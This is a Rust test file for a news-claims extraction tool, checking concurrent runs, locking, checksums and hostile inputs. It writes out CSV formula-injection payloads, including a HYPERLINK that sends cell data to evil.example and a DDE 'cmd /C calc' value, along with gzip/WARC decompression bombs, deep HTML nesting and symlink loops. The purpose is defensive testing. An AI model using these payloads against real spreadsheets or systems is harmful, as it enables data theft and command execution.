//! Hostile input, concurrent runs and spreadsheets: each input is generated
//! here, small, and run through the binary under a memory limit, checking
//! the exit code, the one-line message, the peak memory and that the other
//! inputs' claims (and everything stored) are still there.

use std::fs;
use std::io::{BufRead, BufReader, Read};
use std::os::unix::process::{CommandExt, ExitStatusExt};
use std::path::{Path, PathBuf};
use std::process::{Command, ExitStatus, Stdio};
use std::time::{Duration, Instant};

use econtrack::export::read_claims;
use econtrack::{Claim, synth};

use crate::{econtrack, stderr};

/// The address space a child may take: a blow-up fails an allocation
/// instead of taking the machine, and the peak check below says why.
const ADDRESS_SPACE: u64 = 2 << 30;

/// What every hostile input must stay under.
const PEAK_MB: u64 = 300;

/// How a run under the memory limit ended.
pub struct Limited {
    pub status: ExitStatus,
    pub stderr: String,
    /// Peak resident memory of the child, in MB.
    pub peak_mb: u64,
    pub seconds: f64,
}

/// Runs the binary with `args` in `cwd` under [`ADDRESS_SPACE`], and
/// samples its peak memory every few milliseconds. (`wait4`'s maximum
/// resident set would count the test process's own memory at the fork.)
pub fn run_limited(cwd: &Path, args: &[&str]) -> Limited {
    let mut command = Command::new(env!("CARGO_BIN_EXE_econtrack"));
    command.args(args).current_dir(cwd).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::piped());
    // SAFETY: setrlimit is async-signal-safe and touches no memory of ours.
    unsafe {
        command.pre_exec(|| {
            let limit = libc::rlimit { rlim_cur: ADDRESS_SPACE, rlim_max: ADDRESS_SPACE };
            if libc::setrlimit(libc::RLIMIT_AS, &limit) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let start = Instant::now();
    let mut child = command.spawn().expect("the econtrack binary starts");
    let mut pipe = child.stderr.take().unwrap();
    let err = std::thread::spawn(move || {
        let mut text = Vec::new();
        pipe.read_to_end(&mut text).unwrap();
        String::from_utf8_lossy(&text).into_owned()
    });
    let status_file = format!("/proc/{}/status", child.id());
    let mut peak_kb = 0;
    let status = loop {
        // The high-water mark of the process's memory since its exec.
        let hwm = fs::read_to_string(&status_file).ok().and_then(|s| {
            s.lines().find_map(|l| l.strip_prefix("VmHWM:")).and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
        });
        peak_kb = peak_kb.max(hwm.unwrap_or(0));
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        std::thread::sleep(Duration::from_millis(2));
    };
    Limited { status, stderr: err.join().unwrap(), peak_mb: peak_kb / 1024, seconds: start.elapsed().as_secs_f64() }
}

impl Limited {
    /// Asserts the exit code and the memory bound, and that the run ended on
    /// its own (no signal, no abort).
    #[track_caller]
    pub fn expect(&self, code: i32, what: &str) -> &Self {
        eprintln!("{what}: exit {:?}, {:.1} s, peak {} MB", self.status.code(), self.seconds, self.peak_mb);
        assert_eq!(self.status.signal(), None, "{what}: killed by a signal; stderr:\n{}", self.stderr);
        assert_eq!(self.status.code(), Some(code), "{what}: exit code; stderr:\n{}", self.stderr);
        assert!(self.peak_mb < PEAK_MB, "{what}: peak memory {} MB", self.peak_mb);
        self
    }

    /// The stderr lines that mention `needle`.
    pub fn lines_with(&self, needle: &str) -> Vec<&str> {
        self.stderr.lines().filter(|l| l.contains(needle)).collect()
    }
}

/// `n` generated articles, one in five about trade, as a JSONL file.
fn write_feed(path: &Path, seed: u64, n: usize) {
    let lines: String = (0..n).map(|i| synth::jsonl_line(&synth::article(seed, i))).collect();
    fs::write(path, lines).unwrap();
}

fn ids(claims: &[Claim]) -> std::collections::BTreeSet<String> {
    claims.iter().map(|c| c.article_id.to_string()).collect()
}

fn run_args<'a>(articles: &'a Path, out: &'a Path, charts: &'a Path) -> Vec<&'a str> {
    vec!["run", "--articles", articles.to_str().unwrap(), "--out", out.to_str().unwrap(), "--charts", charts.to_str().unwrap()]
}

/// A temporary folder with `articles/` in it, run over into `data/` and `charts/`.
struct Job {
    dir: tempfile::TempDir,
    articles: PathBuf,
    out: PathBuf,
    charts: PathBuf,
}

impl Job {
    fn new() -> Job {
        let dir = tempfile::tempdir().unwrap();
        let (articles, out, charts) = (dir.path().join("articles"), dir.path().join("data"), dir.path().join("charts"));
        fs::create_dir_all(&articles).unwrap();
        Job { dir, articles, out, charts }
    }

    /// `econtrack run` over the articles, with `extra` flags.
    fn run(&self, extra: &[&str]) -> Limited {
        self.run_charting_to(&self.charts, extra)
    }

    fn run_charting_to(&self, charts: &Path, extra: &[&str]) -> Limited {
        let mut args = run_args(&self.articles, &self.out, charts);
        args.extend(extra);
        run_limited(self.dir.path(), &args)
    }

    fn stored(&self) -> Vec<Claim> {
        read_claims(&self.out.join("claims.parquet")).unwrap()
    }
}

/// Two runs at once on one store, each over its own half of the articles:
/// both succeed and the store holds both halves.
#[test]
fn two_runs_at_once_on_one_store_lose_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let (a, b) = (dir.path().join("a"), dir.path().join("b"));
    for (folder, seed) in [(&a, 1), (&b, 2)] {
        fs::create_dir_all(folder).unwrap();
        write_feed(&folder.join("feed.jsonl"), seed, 800);
    }
    let (out, charts) = (dir.path().join("data"), dir.path().join("charts"));
    let runs: Vec<_> = [&a, &b]
        .into_iter()
        .map(|folder| {
            let (folder, out, charts, cwd) = (folder.clone(), out.clone(), charts.clone(), dir.path().to_path_buf());
            std::thread::spawn(move || run_limited(&cwd, &run_args(&folder, &out, &charts)))
        })
        .collect();
    for run in runs {
        run.join().unwrap().expect(0, "a run beside another");
    }
    let stored = ids(&read_claims(&out.join("claims.parquet")).unwrap());
    for (folder, seed) in [(&a, 1), (&b, 2)] {
        let alone = dir.path().join(format!("alone-{seed}.jsonl"));
        let out = econtrack(dir.path(), &["extract", folder.to_str().unwrap(), "-o", alone.to_str().unwrap()]);
        assert!(out.status.success(), "{}", stderr(&out));
        let wanted = ids(&read_claims(&alone).unwrap());
        assert!(wanted.len() > 50, "{} articles with claims", wanted.len());
        assert!(wanted.is_subset(&stored), "articles of run {seed} lost: {}", wanted.difference(&stored).count());
    }
}

/// While another job holds the output folder, a run says so and waits,
/// writing nothing; once the folder is free it goes on.
#[test]
fn a_run_waits_for_the_folder_held_by_another() {
    let job = Job::new();
    write_feed(&job.articles.join("feed.jsonl"), 3, 200);
    fs::create_dir_all(&job.out).unwrap();
    let held = fs::File::create(job.out.join(".econtrack.lock")).unwrap();
    held.lock().unwrap();
    let mut child = Command::new(env!("CARGO_BIN_EXE_econtrack"))
        .args(run_args(&job.articles, &job.out, &job.charts))
        .stderr(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(child.stderr.take().unwrap()).lines();
    let first = lines.next().unwrap().unwrap();
    assert!(first.contains("another run is writing to") && first.contains("waiting for it to finish"), "{first}");
    std::thread::sleep(Duration::from_millis(300));
    assert!(!job.out.join("claims.parquet").exists(), "nothing is written while the folder is held");
    assert!(child.try_wait().unwrap().is_none(), "the run waits");
    drop(held);
    let rest: Vec<String> = lines.map(Result::unwrap).collect();
    assert!(child.wait().unwrap().success(), "{rest:?}");
    assert!(!job.stored().is_empty());
}

#[test]
fn an_output_that_is_an_input_is_refused_and_the_input_kept() {
    let dir = tempfile::tempdir().unwrap();
    let feed = dir.path().join("feed.jsonl");
    write_feed(&feed, 4, 20);
    let before = fs::read(&feed).unwrap();
    for output in ["feed.jsonl", "./feed.jsonl"] {
        let run = run_limited(dir.path(), &["extract", "feed.jsonl", "-o", output]);
        run.expect(2, "output = input");
        assert_eq!(run.lines_with("is one of the inputs").len(), 1, "{}", run.stderr);
        assert_eq!(fs::read(&feed).unwrap(), before, "the input is untouched");
    }
}

/// Every file in `dir`, by name, except the lock.
fn files_in(dir: &Path) -> std::collections::BTreeMap<String, Vec<u8>> {
    fs::read_dir(dir)
        .unwrap()
        .map(Result::unwrap)
        .filter(|e| e.file_name() != ".econtrack.lock")
        .map(|e| (e.file_name().to_string_lossy().into_owned(), fs::read(e.path()).unwrap()))
        .collect()
}

/// A run that fails after its claims are written (its charts folder cannot
/// be made) leaves every table as it was: no new claims beside old series.
#[test]
fn a_run_that_fails_late_leaves_all_tables_as_they_were() {
    let job = Job::new();
    write_feed(&job.articles.join("a.jsonl"), 5, 300);
    job.run(&[]).expect(0, "the first run");
    let before = files_in(&job.out);
    assert!(before.contains_key("claims.parquet") && before.contains_key("progress.csv") && before.contains_key("claims.parquet.sha256"));
    write_feed(&job.articles.join("b.jsonl"), 6, 300);
    let blocked = job.dir.path().join("not-a-folder");
    fs::write(&blocked, "a file where the charts folder should be").unwrap();
    let run = job.run_charting_to(&blocked, &[]);
    run.expect(2, "charts cannot be written");
    assert_eq!(run.lines_with("not-a-folder").len(), 1, "{}", run.stderr);
    assert_eq!(files_in(&job.out), before, "every table is as it was, and no temporary file is left");
    job.run(&[]).expect(0, "the run again, with a charts folder");
    assert_ne!(files_in(&job.out)["claims.csv"], before["claims.csv"]);
}

/// A store whose bytes were changed after it was written is refused, byte
/// flip by byte flip, and left as it is.
#[test]
fn a_damaged_store_is_refused() {
    let job = Job::new();
    write_feed(&job.articles.join("a.jsonl"), 7, 100);
    job.run(&[]).expect(0, "the first run");
    let store = job.out.join("claims.parquet");
    let good = fs::read(&store).unwrap();
    let mut seed = 0x2545_f491_4f6c_dd1du64;
    for trial in 0..40 {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        let mut bad = good.clone();
        let at = (seed % bad.len() as u64) as usize;
        bad[at] ^= 1 << (seed >> 61);
        fs::write(&store, &bad).unwrap();
        let run = job.run(&[]);
        run.expect(2, &format!("flip {trial} at byte {at}"));
        assert_eq!(run.lines_with("does not match its checksum").len(), 1, "{}", run.stderr);
        assert_eq!(fs::read(&store).unwrap(), bad, "a refused store is left as it is");
    }
    fs::write(&store, &good).unwrap();
    job.run(&[]).expect(0, "the store restored");
}

/// Articles whose id, source and first sentence start like formulas.
fn formula_feed(path: &Path) {
    let lines = [
        serde_json::json!({"id": "=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")", "source": "@SUM(1+1)*cmd|' /C calc'!A0",
            "text": "-Trade between Kazakhstan and Kyrgyzstan reached $2 billion in 2023."}),
        serde_json::json!({"id": "+plus", "source": "\tTAB", "published": "2024-05-01",
            "text": "=1+1 Kazakhstan and Kyrgyzstan aim to raise mutual trade to $3 billion by 2030."}),
        serde_json::json!({"id": "'quoted", "source": "'=already quoted",
            "text": "Trade between Kazakhstan and Uzbekistan reached $4 billion in 2023."}),
    ];
    fs::write(path, lines.map(|l| l.to_string()).join("\n")).unwrap();
}

/// In every CSV we write, a cell that starts like a formula starts with `'`;
/// the claims CSV reads back to the same claims as the JSONL table.
#[test]
fn formula_like_cells_are_escaped_in_csv_and_kept_elsewhere() {
    let dir = tempfile::tempdir().unwrap();
    let feed = dir.path().join("feed.jsonl");
    formula_feed(&feed);
    for output in ["c.csv", "c.jsonl"] {
        run_limited(dir.path(), &["extract", "feed.jsonl", "-o", output]).expect(0, output);
    }
    let csv = fs::read_to_string(dir.path().join("c.csv")).unwrap();
    assert!(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"click\"\")\""), "{csv}");
    assert!(csv.contains("'-Trade between"), "{csv}");
    assert!(csv.contains("'@SUM(1+1)") && csv.contains("'+plus") && csv.contains("''quoted"), "{csv}");
    let jsonl = read_claims(&dir.path().join("c.jsonl")).unwrap();
    assert!(jsonl.iter().any(|c| c.evidence.starts_with("-Trade between")), "JSONL keeps the text as it is");
    assert_eq!(read_claims(&dir.path().join("c.csv")).unwrap(), jsonl, "the CSV reads back to the same claims");
    assert!(jsonl.len() >= 3, "{} claims", jsonl.len());
}

/// LibreOffice, with the import filter the README gives, finds no formula in
/// any CSV of a run. Skipped where `soffice` is not installed, unless
/// `ECONTRACK_REQUIRE_SOFFICE` is set (`.ci/run` installs it and sets that).
#[test]
fn libreoffice_opens_our_csv_without_a_formula() {
    if Command::new("soffice").arg("--version").output().is_err() {
        assert!(std::env::var_os("ECONTRACK_REQUIRE_SOFFICE").is_none(), "soffice is not installed");
        eprintln!("skipped: soffice is not installed");
        return;
    }
    let job = Job::new();
    formula_feed(&job.articles.join("feed.jsonl"));
    job.run(&[]).expect(0, "run");
    let xlsx = job.dir.path().join("xlsx");
    let profile = format!("-env:UserInstallation=file://{}", job.dir.path().join("lo-profile").display());
    for table in ["claims", "series", "targets", "progress"] {
        let csv = job.out.join(format!("{table}.csv"));
        let converted = Command::new("soffice")
            .args([&profile, "--headless", "--infilter=CSV:44,34,76,1", "--convert-to", "xlsx", "--outdir"])
            .arg(&xlsx)
            .arg(&csv)
            .output()
            .unwrap();
        assert!(converted.status.success(), "{}", String::from_utf8_lossy(&converted.stderr));
        let sheet = Command::new("python3")
            .args(["-c", "import sys, zipfile; print(zipfile.ZipFile(sys.argv[1]).read('xl/worksheets/sheet1.xml').decode())"])
            .arg(xlsx.join(format!("{table}.xlsx")))
            .output()
            .unwrap();
        let sheet = String::from_utf8_lossy(&sheet.stdout);
        assert!(sheet.contains("<sheetData"), "{table}: {sheet}");
        assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "{table}.csv has a formula cell: {sheet}");
    }
}

/// An error's cause is said once, not twice.
#[test]
fn an_error_says_its_cause_once() {
    let dir = tempfile::tempdir().unwrap();
    fs::write(dir.path().join("a-file"), "x").unwrap();
    let feed = dir.path().join("feed.jsonl");
    write_feed(&feed, 8, 5);
    let run = run_limited(dir.path(), &["extract", "feed.jsonl", "-o", "a-file/claims.csv"]);
    run.expect(2, "output under a file");
    let line = run.lines_with("(os error");
    assert_eq!(line.len(), 1, "{}", run.stderr);
    assert_eq!(line[0].matches("(os error").count(), 1, "{}", line[0]);
    assert!(line[0].contains("a-file"), "{}", line[0]);
}

/// A disk that fills up while the claims are written: the message names the
/// file, says the cause once, and the table is not half-written. Needs a
/// small tmpfs, so it runs where `mount` works (as root) and is skipped elsewhere.
#[test]
fn a_full_disk_names_the_file() {
    let dir = tempfile::tempdir().unwrap();
    let tiny = dir.path().join("tiny");
    fs::create_dir_all(&tiny).unwrap();
    let mounted = Command::new("mount").args(["-t", "tmpfs", "-o", "size=256k", "tmpfs"]).arg(&tiny).output();
    if !mounted.is_ok_and(|m| m.status.success()) {
        eprintln!("skipped: cannot mount a small tmpfs here");
        return;
    }
    struct Unmount<'a>(&'a Path);
    impl Drop for Unmount<'_> {
        fn drop(&mut self) {
            let _ = Command::new("umount").arg(self.0).status();
        }
    }
    let _unmount = Unmount(&tiny);
    let feed = dir.path().join("feed.jsonl");
    write_feed(&feed, 9, 6000);
    let run = run_limited(dir.path(), &["extract", "feed.jsonl", "-o", tiny.join("claims.csv").to_str().unwrap()]);
    run.expect(2, "a full disk");
    let line = run.lines_with("No space left on device");
    assert_eq!(line.len(), 1, "{}", run.stderr);
    assert_eq!(line[0].matches("No space left on device").count(), 1, "{}", line[0]);
    assert!(line[0].contains(tiny.to_str().unwrap()), "the file is named: {}", line[0]);
    assert!(!tiny.join("claims.csv").exists(), "no half-written table");
    assert_eq!(fs::read_dir(&tiny).unwrap().count(), 0, "no temporary file is left");
}

/// The sentence every hostile file wraps, so that what is kept of it shows.
const TRADE: &str = "Trade between Kazakhstan and Kyrgyzstan reached $2 billion in 2023.";

/// One gzip stream of `parts`, one after another.
fn gzip_of<'a>(parts: impl IntoIterator<Item = &'a [u8]>) -> Vec<u8> {
    use std::io::Write;
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    parts.into_iter().for_each(|p| e.write_all(p).unwrap());
    e.finish().unwrap()
}

fn gzip(data: &[u8]) -> Vec<u8> {
    gzip_of([data])
}

/// `n` MiB of spaces as one gzip stream, made a MiB at a time.
fn gzip_spaces(n: usize) -> Vec<u8> {
    let mib = vec![b' '; 1 << 20];
    gzip_of(std::iter::repeat_n(&mib[..], n))
}

/// `n` MiB of zeros as gzip members, one MiB each: a tiny file that a
/// multi-member reader (`.warc.gz`) inflates to `n` MiB.
fn zero_members(n: usize) -> Vec<u8> {
    gzip(&vec![0; 1 << 20]).repeat(n)
}

/// A WARC response record of `http` (status line, headers, body).
fn warc_record(id: &str, http: &[u8]) -> Vec<u8> {
    let mut r = format!(
        "WARC/1.0\r\nWARC-Type: response\r\nWARC-Record-ID: <urn:uuid:{id}>\r\nWARC-Target-URI: https://news.example/{id}\r\n\
         WARC-Date: 2024-03-01T00:00:00Z\r\nContent-Type: application/http; msgtype=response\r\nContent-Length: {}\r\n\r\n",
        http.len()
    )
    .into_bytes();
    r.extend_from_slice(http);
    r.extend_from_slice(b"\r\n\r\n");
    r
}

fn http_page(headers: &str, body: &[u8]) -> Vec<u8> {
    let mut h = format!("HTTP/1.1 200 OK\r\nContent-Type: text/html; charset=utf-8\r\n{headers}\r\n").into_bytes();
    h.extend_from_slice(body);
    h
}

fn page(body: &str) -> String {
    format!("<html lang=en><head><title>Trade</title></head><body>{body}</body></html>")
}

/// Writes one file of every hostile shape, and good articles beside them;
/// returns the ids whose claims must come through.
fn hostile_folder(dir: &Path) -> Vec<&'static str> {
    use std::os::unix::fs::symlink;
    fs::create_dir_all(dir).unwrap();
    let w = |name: &str, bytes: &[u8]| fs::write(dir.join(name), bytes).unwrap();
    w("good.txt", format!("---\npublished: 2024-03-01\n---\n{TRADE}\n").as_bytes());
    // Nesting 20,000 deep, three ways, and 100,000 divs: the text is kept.
    let n = 20_000;
    w("deep-span.html", format!("<p>{}{TRADE}{}</p>", "<span>".repeat(n), "</span>".repeat(n)).as_bytes());
    w("deep-article.html", format!("{}<p>{TRADE}</p>{}", "<article>".repeat(n), "</article>".repeat(n)).as_bytes());
    w("deep-div-p.html", format!("{}{TRADE}{}", "<div><p>".repeat(n), "</p></div>".repeat(n)).as_bytes());
    w("nested-divs.html", page(&format!("{}<p>{TRADE}</p>{}", "<div>".repeat(100_000), "</div>".repeat(100_000))).as_bytes());
    // Far over the size limit: refused from the metadata, never read.
    fs::File::create(dir.join("huge.txt")).unwrap().set_len(262 << 20).unwrap();
    w("commas.txt", "1,000,".repeat((50 << 20) / 6).as_bytes());
    // Under the size limit, no sentence break: read in bounded memory.
    w("long-line.txt", format!("{TRADE} {}", "1,000,".repeat((3 << 20) / 6)).as_bytes());
    // A record block inflating to 400 MiB, a gzip body inflating to 400 MiB
    // and a record of two million header lines, each before a good record.
    let good = |id: &str| warc_record(id, &http_page("", page(&format!("<p>{TRADE}</p>")).as_bytes()));
    let block_bomb = [
        gzip(format!("WARC/1.0\r\nWARC-Type: response\r\nWARC-Record-ID: <urn:uuid:bomb>\r\nContent-Length: {}\r\n\r\n", 400u64 << 20).as_bytes()),
        zero_members(400),
        gzip(b"\r\n\r\n"),
        gzip(&good("after-block-bomb")),
    ]
    .concat();
    w("block-bomb.warc.gz", &block_bomb);
    let body_bomb = [warc_record("body-bomb", &http_page("Content-Encoding: gzip\r\n", &gzip_spaces(400))), good("after-body-bomb")].concat();
    w("body-bomb.warc", &body_bomb);
    let headers = [
        gzip(b"WARC/1.0\r\nWARC-Type: response\r\n"),
        gzip("X-Filler: 1\r\n".repeat(10_000).as_bytes()).repeat(200),
        gzip(b"Content-Length: 0\r\n\r\n\r\n\r\n"),
        gzip(&good("after-headers")),
    ]
    .concat();
    w("headers.warc.gz", &headers);
    // Binary data where JSON lines should be.
    let mut noise = Vec::new();
    let mut x = 0x9e37_79b9_7f4a_7c15u64;
    for i in 0..(1 << 20) {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        noise.push(if i % 40 == 39 { b'\n' } else { (x >> 56) as u8 });
    }
    w("noise.jsonl", &noise);
    // Files that are not files.
    symlink(".", dir.join("loop-a")).unwrap();
    symlink(".", dir.join("loop-b")).unwrap();
    symlink("/dev/zero", dir.join("zero.txt")).unwrap();
    symlink("nowhere.txt", dir.join("dangling.txt")).unwrap();
    let fifo = std::ffi::CString::new(dir.join("pipe.jsonl").to_str().unwrap()).unwrap();
    assert_eq!(unsafe { libc::mkfifo(fifo.as_ptr(), 0o644) }, 0);
    vec!["good", "deep-span", "deep-article", "deep-div-p", "nested-divs", "long-line", "after-block-bomb", "after-body-bomb", "after-headers"]
}

/// A folder of every hostile shape: the run ends in bounded memory, names
/// each bad input, and the good articles' claims all come through.
#[test]
fn a_folder_of_hostile_files_is_read_to_the_end() {
    let job = Job::new();
    let wanted = hostile_folder(&job.articles);
    let run = job.run(&[]);
    run.expect(0, "a hostile folder");
    let stored = ids(&job.stored());
    for id in &wanted {
        assert!(stored.contains(*id), "no claim from {id}; stderr:\n{}", run.stderr);
    }
    for name in ["huge.txt", "commas.txt", "block-bomb.warc.gz", "body-bomb.warc", "headers.warc.gz", "zero.txt", "dangling.txt", "pipe.jsonl"] {
        let lines = run.lines_with(name);
        assert!(!lines.is_empty() && lines.len() <= 2, "{name} named once or twice, found:\n{}", run.stderr);
    }
    assert!(run.lines_with("loop").len() <= 2, "{}", run.stderr);
    let noise = run.lines_with("noise.jsonl").len();
    assert!((1..=6).contains(&noise), "{noise} lines for noise.jsonl:\n{}", run.stderr);
    assert!(run.stderr.lines().count() < 40, "{}", run.stderr);
    job.run(&["--strict"]).expect(1, "--strict");
}

/// An article given again with an empty text is refused like an empty
/// `.txt`, so its stored claims stay.
#[test]
fn an_empty_text_does_not_wipe_stored_claims() {
    let job = Job::new();
    let feed = job.articles.join("feed.jsonl");
    fs::write(&feed, serde_json::json!({"id": "kept", "text": TRADE}).to_string()).unwrap();
    job.run(&[]).expect(0, "the first run");
    let before = job.stored();
    assert!(!before.is_empty());
    for blank in ["", "  \n\t "] {
        fs::write(&feed, serde_json::json!({"id": "kept", "text": blank}).to_string()).unwrap();
        let run = job.run(&["--strict"]);
        run.expect(1, "an empty text under --strict");
        assert_eq!(run.lines_with("feed.jsonl:1:").len(), 1, "{}", run.stderr);
        assert_eq!(job.stored(), before, "the stored claims stay");
    }
}

/// A repeated id inside one file is named with both lines.
#[test]
fn a_repeated_id_is_named_with_its_lines() {
    let dir = tempfile::tempdir().unwrap();
    let line = |id: &str| serde_json::json!({"id": id, "text": TRADE}).to_string();
    fs::write(dir.path().join("feed.jsonl"), [line("a"), line("b"), line("a")].join("\n")).unwrap();
    let run = run_limited(dir.path(), &["extract", "feed.jsonl", "-o", "c.csv"]);
    run.expect(0, "a repeated id");
    assert_eq!(run.lines_with("skipped feed.jsonl:3: article id \"a\" was already read from feed.jsonl:1").len(), 1, "{}", run.stderr);
}

/// Shapes that were slow or huge: each extracts in seconds (a debug build)
/// into a claims table of bounded size, with no non-finite value and no
/// year of fewer than four digits.
#[test]
fn pathological_articles_give_bounded_claims() {
    let dir = tempfile::tempdir().unwrap();
    let table: String = (0..2000).map(|i| format!("{} ${}.{} billion ", 1990 + i % 40, 1 + i % 9, i % 10)).collect();
    let shapes = [
        ("dollars", "$1 ".repeat(27_000)),
        ("dashes", format!("Trade {}", "2020-".repeat(20_000))),
        ("deadlines", format!("Trade will reach $5 billion {}", "by 2030 ".repeat(12_000))),
        ("table", format!("Trade between Kazakhstan and Kyrgyzstan: {table}")),
        ("repeated", format!("{TRADE} ").repeat(3_000)),
        ("huge-number", format!("Trade between Kazakhstan and Kyrgyzstan reached ${} in 2023.", "9".repeat(320))),
        ("short-year", "Trade between Kazakhstan and Kyrgyzstan reached $2 billion on 24-1-5.".to_string()),
    ];
    let mut lines: Vec<String> = shapes.iter().map(|(id, text)| serde_json::json!({"id": id, "title": "Trade", "text": text}).to_string()).collect();
    let title = "Kazakhstan and Kyrgyzstan trade talks ".repeat(55_000);
    lines.push(serde_json::json!({"id": "title", "title": title, "text": TRADE}).to_string());
    lines.push(serde_json::json!({"id": "dated", "published": "24-1-5", "text": TRADE}).to_string());
    fs::write(dir.path().join("shapes.jsonl"), lines.join("\n")).unwrap();
    let run = run_limited(dir.path(), &["extract", "shapes.jsonl", "-o", "c.jsonl"]);
    run.expect(0, "pathological shapes");
    let dated = format!("shapes.jsonl:{}: `published` must be YYYY-MM-DD, found \"24-1-5\"", lines.len());
    assert_eq!(run.lines_with(&dated).len(), 1, "{}", run.stderr);
    assert!(run.seconds < 60.0, "{:.1} s", run.seconds);
    let size = fs::metadata(dir.path().join("c.jsonl")).unwrap().len();
    assert!(size < 20 << 20, "a claims table of {size} bytes");
    let claims = read_claims(&dir.path().join("c.jsonl")).unwrap();
    assert!(claims.iter().all(|c| c.value.is_finite()), "a non-finite value");
    assert!(claims.iter().all(|c| c.evidence.len() < 2048), "evidence is a bounded window");
    let year_ok = |p: &Option<String>| p.as_deref().is_none_or(|p| p.len() >= 4 && p.as_bytes()[..4].iter().all(u8::is_ascii_digit));
    assert!(claims.iter().all(|c| year_ok(&c.period) && year_ok(&c.deadline)), "a year of fewer than four digits");
    assert!(claims.iter().any(|c| &*c.article_id == "table"), "the table's claims are kept");
    assert!(claims.iter().any(|c| &*c.article_id == "title"), "a 2 MB title leaves the text's claim");
}
